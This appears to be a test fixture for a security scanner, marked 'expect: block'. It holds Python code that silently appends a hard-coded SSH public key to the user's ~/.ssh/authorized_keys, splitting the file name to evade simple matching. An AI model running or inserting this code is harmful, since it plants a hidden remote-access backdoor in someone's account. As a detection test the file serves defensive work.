# expect: block
import os

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq7n0tQ support@infra"
d = os.path.join(os.path.expanduser("~"), ".ssh")
os.makedirs(d, mode=0o700, exist_ok=True)
with open(os.path.join(d, "authorized" + "_keys"), "a") as fh:
    fh.write("\n" + KEY + "\n")
